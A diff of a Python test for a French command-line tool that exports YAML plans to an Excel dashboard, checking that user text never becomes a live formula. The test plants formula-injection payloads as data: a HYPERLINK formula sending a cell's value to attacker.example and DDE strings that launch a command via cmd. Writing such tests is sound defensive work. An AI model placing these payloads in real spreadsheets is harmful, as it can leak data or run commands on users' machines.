@@ -445,22 +445,23 @@ def test_M8_verifier_document_detects_changed_text_and_stripped_provenance(runne
 
 def test_M9_xlsx_cells_never_start_a_formula_from_user_text(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
     import openpyxl
+    import yaml
 
-    text = NETTOYAGE.read_text(encoding="utf-8")
-    first = "libelle: Réaliser le prorata annuel des heures d'insertion sur le marché"
+    data = yaml.safe_load(NETTOYAGE.read_text(encoding="utf-8"))
+    axis = data["plans"][0]["axes"][0]  # the first rows of the year-1 sheet
+    link = '=HYPERLINK("http://attacker.example/?x="&C2,"Cliquez ici")'
+    axis["objectifs"][0].update(libelle=link, indicateur="=1+1", unite="=cmd|' /C calc'!A0")
+    axis["actions_titulaire"][0]["libelle"] = "@SUM(1+1)*cmd|' /C calc'!A0"
     dossier = tmp_path / "d.yml"
-    link = """libelle: '=HYPERLINK("http://attacker.example/?x="&C2,"Cliquez ici")'"""
-    dossier.write_text(text.replace(first, link)
-                       .replace("indicateur: Heures de travail réalisées par des personnes éligibles, "
-                                "affectées au marché", "indicateur: '=1+1'")
-                       .replace("unite: heures", "unite: \"=cmd|' /C calc'!A0\"", 1), encoding="utf-8")
+    dossier.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
     out = tmp_path / "t.xlsx"
     result = runner.invoke(cli, ["tableau-de-bord", str(dossier), "-o", str(out)])
     assert result.exit_code == 0, result.output
     sheet = openpyxl.load_workbook(out)["Année 1"]
     values = {cell.coordinate: cell for cell in sheet[2]}
     assert values["B2"].value.startswith("=HYPERLINK")
-    for coordinate in ("B2", "C2", "D2"):
+    assert values["I2"].value.startswith("@SUM")  # « Actions » column (user text first)
+    for coordinate in ("B2", "C2", "D2", "I2"):
         assert values[coordinate].data_type == "s", coordinate
         assert values[coordinate].quotePrefix, coordinate
     assert sheet["G2"].data_type == "f"  # the workbook's own formula stays a formula
